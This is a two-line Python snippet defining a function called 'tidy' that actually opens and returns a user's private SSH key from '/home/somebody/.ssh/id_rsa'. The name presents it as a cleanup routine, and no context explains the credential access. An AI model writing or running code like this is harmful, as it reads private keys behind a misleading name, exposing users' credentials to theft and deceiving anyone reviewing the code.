def tidy():
    return open("/home/somebody/.ssh/id_rsa").read()
